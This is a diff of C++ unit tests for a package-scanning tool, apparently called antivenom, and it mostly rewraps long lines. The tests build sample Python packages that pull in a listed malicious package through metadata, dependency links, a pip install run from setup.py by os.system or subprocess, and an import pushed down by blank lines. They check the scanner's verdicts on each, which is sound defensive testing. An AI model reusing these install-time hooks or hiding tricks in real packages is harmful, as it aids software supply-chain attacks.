@@ -68,19 +68,25 @@ TEST_F(Dependencies, whatever_brings_in_a_listed_package_is_malicious_and_says_w
   package("c.tar.gz", "c", setup_of("c", ", dependency_links=['https://example.com/evil-tool-2.0.tar.gz']"));
   package("d.tar.gz", "d", setup_of("d", ", install_requires=['evil-tool @ git+https://example.com/x.git']"));
   package("e.tar.gz", "e", "import os\nos.system('python -m pip install -q evil-tool')\n" + setup_of("e"));
-  package("f.tar.gz", "f", setup_of("f"), "import subprocess, sys\n\ndef get():\n    subprocess.run([sys.executable, '-m', 'pip', 'install', 'evil_tool'])\n");
+  package("f.tar.gz", "f", setup_of("f"),
+          "import subprocess, sys\n\ndef get():\n    subprocess.run([sys.executable, '-m', 'pip', 'install', "
+          "'evil_tool'])\n");
   package("g.tar.gz", "g", setup_of("g"), "import evil_tool\n" + std::string(60, '\n') + "VALUE = 1\n");
   package("h.tar.gz", "h", setup_of("h"), "import requests\n", "Requires-Dist: eviltool\n");
-  auto reports = scan({"--known-malicious", "bad.txt", "a.tar.gz", "b.tar.gz", "c.tar.gz", "d.tar.gz", "e.tar.gz", "f.tar.gz",
-                       "g.tar.gz", "h.tar.gz"});
+  auto reports = scan({"--known-malicious", "bad.txt", "a.tar.gz", "b.tar.gz", "c.tar.gz", "d.tar.gz", "e.tar.gz",
+                       "f.tar.gz", "g.tar.gz", "h.tar.gz"});
   const std::string requires_it = "requires evil-tool, which is known to be malicious by your list " + list;
   EXPECT_EQ(told(reports["a.tar.gz"]), "malicious; PKG-INFO:5 " + requires_it);
   EXPECT_EQ(told(reports["b.tar.gz"]), "malicious; setup.py:2 " + requires_it);
   EXPECT_EQ(told(reports["c.tar.gz"]), "malicious; setup.py:2 " + requires_it);
   EXPECT_EQ(told(reports["d.tar.gz"]), "malicious; setup.py:2 " + requires_it);
-  EXPECT_EQ(told(reports["e.tar.gz"]), "malicious; setup.py:2 installs evil-tool, which is known to be malicious by your list " + list);
-  EXPECT_EQ(told(reports["f.tar.gz"]), "malicious; f/__init__.py:4 installs evil-tool, which is known to be malicious by your list " + list);
-  EXPECT_EQ(told(reports["g.tar.gz"], false), "at least suspicious; g/__init__.py:1 imports evil-tool, which is known to be malicious by your list " + list);
+  EXPECT_EQ(told(reports["e.tar.gz"]),
+            "malicious; setup.py:2 installs evil-tool, which is known to be malicious by your list " + list);
+  EXPECT_EQ(told(reports["f.tar.gz"]),
+            "malicious; f/__init__.py:4 installs evil-tool, which is known to be malicious by your list " + list);
+  EXPECT_EQ(
+      told(reports["g.tar.gz"], false),
+      "at least suspicious; g/__init__.py:1 imports evil-tool, which is known to be malicious by your list " + list);
   EXPECT_EQ(told(reports["h.tar.gz"]), "clean");
   EXPECT_EQ(reports["a.tar.gz"]["evasions"][0]["evidence"][0]["code"], "Requires-Dist: evil.tool (>=1)");
   EXPECT_EQ(reports["a.tar.gz"]["evasions"][0]["trigger"], "install");
@@ -88,16 +94,20 @@ TEST_F(Dependencies, whatever_brings_in_a_listed_package_is_malicious_and_says_w
 }
 
 TEST_F(Dependencies, versions_decide_where_the_list_has_them) {
-  folder_.write("bad.json", R"({"id": "MAL-1", "affected": [{"package": {"ecosystem": "PyPI", "name": "tool"}, "versions": ["1.3"]}]})");
+  folder_.write(
+      "bad.json",
+      R"({"id": "MAL-1", "affected": [{"package": {"ecosystem": "PyPI", "name": "tool"}, "versions": ["1.3"]}]})");
   package("pinned.tar.gz", "a", setup_of("a"), "", "Requires-Dist: tool==1.3\n");
   package("other.tar.gz", "b", setup_of("b"), "", "Requires-Dist: tool!=1.3\n");
   package("open.tar.gz", "c", setup_of("c"), "", "Requires-Dist: tool>=1\n");
   auto reports = scan({"--known-malicious=bad.json", "pinned.tar.gz", "other.tar.gz", "open.tar.gz"});
   EXPECT_EQ(told(reports["pinned.tar.gz"]),
-            "malicious; PKG-INFO:4 requires tool, which is known to be malicious by your list (bad.json, MAL-1: version 1.3)");
+            "malicious; PKG-INFO:4 requires tool, which is known to be malicious by your list (bad.json, MAL-1: "
+            "version 1.3)");
   EXPECT_EQ(told(reports["other.tar.gz"]), "clean");
   EXPECT_EQ(told(reports["open.tar.gz"]),
-            "clean; PKG-INFO:4 requires tool, which has versions that are known to be malicious by your list (bad.json, MAL-1: version 1.3)");
+            "clean; PKG-INFO:4 requires tool, which has versions that are known to be malicious by your list "
+            "(bad.json, MAL-1: version 1.3)");
 }
 
 TEST_F(Dependencies, a_package_on_the_list_is_said_to_be_only_that) {
@@ -114,13 +124,15 @@ TEST_F(Dependencies, a_package_on_the_list_is_said_to_be_only_that) {
   const json a = json::parse(first), b = json::parse(second);
   EXPECT_EQ(a["verdict"], "malicious");
   EXPECT_EQ(a["score"], b["score"]);
-  EXPECT_TRUE(std::string(a["summary"])
-                  .starts_with("Your list of known-malicious packages names a (bad.csv, line 2: version 1.0), which alone "
-                               "makes it malicious. Nothing hostile found"))
+  EXPECT_TRUE(
+      std::string(a["summary"])
+          .starts_with("Your list of known-malicious packages names a (bad.csv, line 2: version 1.0), which alone "
+                       "makes it malicious. Nothing hostile found"))
       << a["summary"];
   EXPECT_EQ(a["known_malicious"].dump(), R"({"line":2,"list":"bad.csv","name":"a","versions":"version 1.0"})");
   EXPECT_TRUE(a["evasions"].empty());
-  const json sarif = json::parse(test_support::run_antivenom({"scan", "--format=sarif", "a.tar.gz"}, folder_).out)["runs"][0];
+  const json sarif =
+      json::parse(test_support::run_antivenom({"scan", "--format=sarif", "a.tar.gz"}, folder_).out)["runs"][0];
   EXPECT_EQ(sarif["results"][0]["ruleId"], "known-malicious");
   EXPECT_EQ(sarif["results"][0]["message"]["text"], "bad.csv names a: version 1.0");
   EXPECT_EQ(b["verdict"], "clean");
@@ -141,7 +153,8 @@ TEST_F(Dependencies, packages_scanned_together_judge_each_other_in_any_order) {
   package("all/direct-1.0.tar.gz", "direct", setup_of("direct"), "", "Requires-Dist: evil\n");
   package("all/far-1.0.tar.gz", "far", setup_of("far"), "", "Requires-Dist: direct>=1\n");
   package("all/ring_a-1.0.tar.gz", "ring_a", setup_of("ring_a"), "", "Requires-Dist: ring-b\n");
-  package("all/ring_b-1.0.tar.gz", "ring_b", setup_of("ring_b"), "", "Requires-Dist: ring-a\nRequires-Dist: evil<0.5\n");
+  package("all/ring_b-1.0.tar.gz", "ring_b", setup_of("ring_b"), "",
+          "Requires-Dist: ring-a\nRequires-Dist: evil<0.5\n");
   package("all/zeal-1.0.tar.gz", "zeal", "import os\nos.system('pip install evil')\n" + setup_of("zeal"));
   const std::string scanned = "was scanned and is malicious (evil-1.0.tar.gz)";
   for (const char* jobs : {"--jobs=1", "--jobs=7"}) {
@@ -152,12 +165,14 @@ TEST_F(Dependencies, packages_scanned_together_judge_each_other_in_any_order) {
       for (const std::string& name : names) arguments.push_back("all/" + name + "-1.0.tar.gz");
       auto reports = scan(arguments);
       EXPECT_EQ(reports["all/evil-1.0.tar.gz"]["verdict"], "malicious");
-      EXPECT_EQ(told(reports["all/direct-1.0.tar.gz"], false), "at least suspicious; PKG-INFO:4 requires evil, which " + scanned);
+      EXPECT_EQ(told(reports["all/direct-1.0.tar.gz"], false),
+                "at least suspicious; PKG-INFO:4 requires evil, which " + scanned);
       EXPECT_EQ(told(reports["all/far-1.0.tar.gz"], false),
                 "at least suspicious; PKG-INFO:4 requires direct, which requires evil, which " + scanned);
       EXPECT_EQ(told(reports["all/ring_a-1.0.tar.gz"]), "clean");
       EXPECT_EQ(told(reports["all/ring_b-1.0.tar.gz"]), "clean");
-      EXPECT_EQ(told(reports["all/zeal-1.0.tar.gz"], false), "at least suspicious; setup.py:2 installs evil, which " + scanned);
+      EXPECT_EQ(told(reports["all/zeal-1.0.tar.gz"], false),
+                "at least suspicious; setup.py:2 installs evil, which " + scanned);
       EXPECT_EQ(reports["all/direct-1.0.tar.gz"]["evasions"][0]["evidence"][0]["code"], "Requires-Dist: evil");
     }
   }
@@ -165,7 +180,8 @@ TEST_F(Dependencies, packages_scanned_together_judge_each_other_in_any_order) {
   EXPECT_EQ(told(alone["all/direct-1.0.tar.gz"]), "clean");
   auto beside = scan({"--dependencies", "all", "all/direct-1.0.tar.gz"});
   ASSERT_EQ(beside.size(), 1u);
-  EXPECT_EQ(told(beside["all/direct-1.0.tar.gz"], false), "at least suspicious; PKG-INFO:4 requires evil, which " + scanned);
+  EXPECT_EQ(told(beside["all/direct-1.0.tar.gz"], false),
+            "at least suspicious; PKG-INFO:4 requires evil, which " + scanned);
 }
 
 }  // namespace
